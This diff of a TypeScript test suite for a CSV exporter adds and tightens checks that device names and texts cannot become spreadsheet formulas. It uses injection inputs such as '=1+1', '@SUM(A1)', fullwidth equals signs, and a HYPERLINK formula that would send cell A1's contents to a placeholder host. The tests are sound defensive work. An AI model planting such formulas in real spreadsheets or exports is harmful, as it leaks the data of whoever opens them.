@@ -249,9 +249,9 @@ describe('CSV', () => {
     const rows = csvOf([drawn], [500, 3000]).split('\r\n');
     expect(rows).toEqual([
       'time,device,metric,tags,unit,seconds,samples,min,max,avg,last',
-      '1970-01-01T00:00:00.000Z,"pump, ""7""",t,line=1;site=a,°C,1,2,1,3,2,3',
-      '1970-01-01T00:00:01.000Z,"pump, ""7""",t,line=1;site=a,°C,1,1,2,2,2,2',
-      '1970-01-01T00:00:02.000Z,"pump, ""7""",t,line=1;site=a,°C,1,0,,,,NaN',
+      '1970-01-01T00:00:00.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,2,1,3,2,3',
+      '1970-01-01T00:00:01.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,1,2,2,2,2',
+      '1970-01-01T00:00:02.000Z,"pump, ""7""",t,"line=1;site=a",°C,1,0,,,,NaN',
       '',
     ]);
   });
@@ -259,9 +259,12 @@ describe('CSV', () => {
   it('holds no formula, whoever named a device or sent a text; numbers stay numbers', () => {
     const name = (device: string) => csvOf([{ ...drawn, device }], [9000, 9500]).split('\r\n')[1]!.split(',')[1];
     expect(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', 'a=1', ' =1', "'=1"].map(name)).toEqual([
-      ...["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", 'a=1', ' =1', "'=1"],
+      ...["'=1+1", "'+1", "'-1", "'@SUM(A1)", `"'\t=1"`, 'a=1', ' =1', "'=1"],
     ]);
     expect(name('\r=1')).toBe('"\'\r=1"');
+    // Where numbers have a comma, cells are parted by semicolons: what is after one must not stand for itself.
+    expect(name('a;=1')).toBe('"a;=1"');
+    expect(['\uff1d1', '\uff0b1', '\uff0d1', '\uff201'].map(name)).toEqual(["'\uff1d1", "'\uff0b1", "'\uff0d1", "'\uff201"]);
     const joined = new Columns();
     joined.put(0, 1, -2, -1, -1.5, '=HYPERLINK("http://x/?"&A1,"a")');
     joined.put(1000, 1, -2, -1, -1.5, -1);
